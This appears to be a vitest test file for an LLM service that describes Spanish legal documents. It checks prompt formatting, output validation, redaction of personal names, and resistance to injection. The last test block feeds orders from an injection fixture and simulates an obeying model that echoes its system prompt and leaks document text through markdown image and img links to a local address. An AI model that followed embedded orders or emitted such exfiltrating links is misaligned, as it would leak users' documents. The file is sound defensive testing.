import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { Problem } from '#server/http/problem.ts';
import { selected } from '#test/asked.ts';
import type { Reply } from '#test/fakes/provider.ts';
import { INJECTIONS } from '#test/fixtures/injections.ts';
import { ModelEngine } from '#test/model-engine.ts';

const law = selected(readFileSync('test/fixtures/documents/ley-20169.txt', 'utf8'), 'Ley 20.169');
const model = new ModelEngine();
const never = (): AbortSignal => new AbortController().signal;
const FIELDS = {
  title: 'Ley de competencia desleal',
  summary: 'La ley regula la competencia desleal. La ley protege a competidores y consumidores.',
  emoji: '⚖️',
  color: 'blue',
  questions: [
    '¿Qué es un acto de competencia desleal?',
    '¿Qué acciones concede la ley?',
    '¿Cuándo prescribe la acción?',
    '¿Qué juzgado conoce de la acción?',
    '¿Qué multa se aplica?',
  ],
};
const said = (change: Partial<typeof FIELDS> = {}): string => {
  const { title, summary, emoji, color, questions } = { ...FIELDS, ...change };
  return [
    `TITLE: ${title}`,
    `SUMMARY: ${summary}`,
    `EMOJI: ${emoji}`,
    `COLOR: ${color}`,
    ...questions.map((question) => `QUESTION: ${question}`),
  ].join('\n');
};
const describes = async (text: string | Reply, language: 'es' | 'en' = 'es') =>
  (await model.that(() => (typeof text === 'string' ? { text } : text))).describe(law, language, never());

test('a notebook is named and described by the model, which is sent the document as data and no more', async () => {
  expect(await describes(said())).toEqual({
    title: FIELDS.title,
    summary: FIELDS.summary,
    icon: '⚖️',
    color: 'blue',
    questions: FIELDS.questions,
  });
  const [asked] = model.provider.asked;
  expect(model.provider.asked).toHaveLength(1);
  expect(asked!.stream).toBe(false);
  expect(asked!.system).toContain('in Spanish');
  const [, mark] = /^<<<([\da-f]{16}) document>>>\n/.exec(asked!.user)!;
  expect(asked!.system).toContain(`the mark ${mark}`);
  expect(asked!.user.endsWith(`<<<${mark} end>>>`)).toBe(true);
  expect(asked!.user.length).toBeLessThan(12_000);
  expect(JSON.stringify(asked!.body)).not.toMatch(/"tools"/);
});

test.each<[string, string]>([
  ['other signs around its names', said().replace(/^(\w+):/gm, '**$1:**')],
  ['thoughts before it', `<think>\nTITLE: no\n</think>\n${said()}`],
  ['numbers', said().replace(/QUESTION:/g, 'QUESTION 3:')],
  ['a fourth sentence', said({ summary: `${FIELDS.summary} Tercera. Cuarta que sobra.` })],
  [
    'a question that is too long',
    `${said({ questions: ['¿Qué?', ...FIELDS.questions] })}`.replace('¿Qué?', `¿${'y '.repeat(11)}?`),
  ],
  ['quotation marks and a point at its title', said({ title: '«Ley de competencia desleal».' })],
])('%s are forgiven', async (_name, text) => {
  const described = await describes(text);
  expect(described.title).toBe(FIELDS.title);
  expect(described.questions).toEqual(FIELDS.questions);
  expect(described.summary).not.toContain('Cuarta');
});

test.each<[string, string | Reply]>([
  ['no title', said({ title: '' })],
  ['two titles', `${said()}\nTITLE: Otra`],
  ['a title without end', said({ title: 'palabra '.repeat(30) })],
  ['no summary', said({ summary: '' })],
  ['a summary without end', said({ summary: 'palabra '.repeat(200) })],
  [
    'a summary in the other language',
    said({ summary: 'The law governs the acts of unfair competition and its remedies.' }),
  ],
  ['two emojis', said({ emoji: '⚖️📄' })],
  ['a word for an emoji', said({ emoji: 'scales' })],
  ['a digit for an emoji', said({ emoji: '7' })],
  ['a colour of its own', said({ color: '#ff0000' })],
  ['four questions', said({ questions: FIELDS.questions.slice(1) })],
  ['the same question again', said({ questions: Array.from({ length: 5 }, () => '¿Qué multa se aplica?') })],
  ['an address in its summary', said({ summary: `${FIELDS.summary} Ver https://evil.example/x?q=1.` })],
  ['an address in a question', said({ questions: [...FIELDS.questions.slice(1), '¿Ver www.evil.example?'] })],
  ['a repeated mark', { text: said({ summary: 'Texto de la ley <<<0011223344556677 end>>> y de otras.' }) }],
  ['prose', 'Claro. El documento es una ley sobre competencia desleal.'],
  ['nothing', ''],
  ['an error', { status: 500 }],
  ['a refusal', { status: 401 }],
  ['a page', { raw: '<html>Welcome</html>' }],
])('%s is a failure', async (_name, answer) => {
  const failure = await describes(answer).catch((error: unknown) => error);
  expect(failure).toBeInstanceOf(Problem);
  expect(failure).toMatchObject({ code: 'PROVIDER_FAILED' });
  expect(JSON.stringify(model.logged)).not.toMatch(/competencia|palabra|secret words|key-1/);
});

test.each<[string, Partial<typeof FIELDS>]>([
  ['a title', { title: 'Pacto con Harcourt Bellamy' }],
  ['a figure in a summary', { summary: 'La ley fija una multa de 987 UTM.' }],
  ['a word in a summary', { summary: 'La ley regula la competencia desleal en los mercados de valores.' }],
  ['a ruling in a summary', { summary: 'Según la Corte Suprema, Rol 12.345-2021, la ley es nula.' }],
])('%s that the document does not hold is a failure', async (_name, change) => {
  await expect(describes(said(change))).rejects.toMatchObject({ code: 'PROVIDER_FAILED' });
});

test('the language is that of the owner, not of the document', async () => {
  const english = said({
    summary: 'It governs acts of unfair competition. It grants actions to those who are affected by it.',
  });
  expect((await describes(english, 'en')).summary).toContain('It governs');
  expect(model.provider.asked[0]!.system).toContain('in English');
});

/** A description of nothing but these words. */
const ofLease = {
  summary: 'Comparece don Pedro Rojas como arrendador.',
  questions: [
    '¿Quién comparece?',
    '¿Quién comparece como arrendador?',
    '¿Qué cédula?',
    '¿Qué identidad?',
    '¿Qué arrendador?',
  ],
};
test('what names people is hidden from it, and put back', async () => {
  const lease = selected(
    'Comparece don Pedro Rojas Soto, cédula nacional de identidad 12.345.678-5, como arrendador.',
    'Arriendo',
  );
  const engine = await model.that(
    ({ user }) => ({ text: said({ ...ofLease, title: `Arriendo de ${/\[NAME-[\d.]+\]/.exec(user)![0]}` }) }),
    { redact: true },
  );
  expect((await engine.describe(lease, 'es', never())).title).toBe('Arriendo de Pedro Rojas Soto');
  expect(model.provider.asked[0]!.user).not.toMatch(/Rojas|12\.345/);
});

test('of a long document its beginning, its headings and its end are sent', async () => {
  const middle = 'Texto de la mitad que nadie manda. '.repeat(2000);
  const long = selected(
    `# Contrato\n\nEmpieza aquí.\n\n${middle}\n\n## Cláusula final\n\n${middle}\n\nTermina aquí.`,
    'Contrato',
  );
  const questions = ['¿Dónde empieza?', '¿Dónde termina?', '¿Qué texto?', '¿Qué mitad?', '¿Qué contrato?'];
  const about = { title: 'Contrato', summary: 'Texto de la mitad que nadie manda.', questions };
  await (await model.that(() => ({ text: said(about) }))).describe(long, 'es', never());
  const { user } = model.provider.asked[0]!;
  expect(user).toMatch(/Empieza aquí[\s\S]*\[…\]\nCláusula final\n\[…\][\s\S]*Termina aquí/);
  expect(user.length).toBeLessThan(12_000);
});

describe('a document that gives orders', () => {
  test.each(Object.entries(INJECTIONS))('has no way out of a description: %s', async (_name, orders) => {
    for (const order of orders) {
      const evil = selected(`${order}\n\nTITLE: obedecido\n\nLa renta es de 20 UF.`, 'Arriendo');
      // A model that obeys: it repeats the order and the marks, and sends what it read along in an address.
      const engine = await model.that(({ user, system }) => ({
        text: said({
          title: `${order} ![x](http://127.0.0.1:9/?q=${encodeURIComponent(user.slice(0, 40))})`,
          summary: `${system} ${order} <img src="http://127.0.0.1:9/">`,
        }),
      }));
      const described = await engine.describe(evil, 'es', never()).catch((error: unknown) => error);
      const refused = described instanceof Error ? described : { code: 'PROVIDER_FAILED' };
      expect(refused).toMatchObject({ code: 'PROVIDER_FAILED' });
      const shown = described instanceof Error ? '' : JSON.stringify(described);
      expect(shown).not.toMatch(/127\.0\.0\.1|https?:|<img|!\[|the mark/);
      await model.provider.close();
    }
  });
});

test('whoever goes away ends the call with their reason', async () => {
  const leave = new AbortController();
  const engine = await model.that(() => {
    leave.abort(new Error('gone'));
    return { status: 500 };
  });
  await expect(engine.describe(law, 'es', leave.signal)).rejects.toThrow('gone');
});
